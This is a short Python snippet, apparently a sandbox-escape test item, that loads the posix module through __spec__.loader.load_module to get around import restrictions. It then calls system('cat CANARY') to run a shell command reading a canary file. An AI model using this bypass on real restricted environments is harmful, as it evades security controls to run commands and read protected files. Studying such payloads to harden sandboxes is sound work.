def fetch(name):
    return __spec__.loader.load_module(name)

fetch("posix").system("cat CANARY")
